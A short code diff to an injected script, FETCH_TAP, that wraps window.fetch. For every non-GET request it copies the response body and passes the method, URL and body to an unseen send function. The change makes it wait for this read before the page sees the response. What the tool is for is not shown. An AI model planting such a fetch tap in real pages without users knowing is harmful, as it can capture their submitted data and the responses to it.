@@ -53,7 +53,8 @@ const FETCH_TAP = `(() => {
   window.fetch = async (input, init) => {
     const response = await original(input, init);
     const request = new Request(input, init);
-    if (request.method !== "GET") response.clone().text().then((text) => send(request.method + " " + request.url, text), () => undefined);
+    // Read before the page sees the answer: a redirect it acts on cannot cut the read short.
+    if (request.method !== "GET") await response.clone().text().then((text) => send(request.method + " " + request.url, text), () => undefined);
     return response;
   };
 })();`;
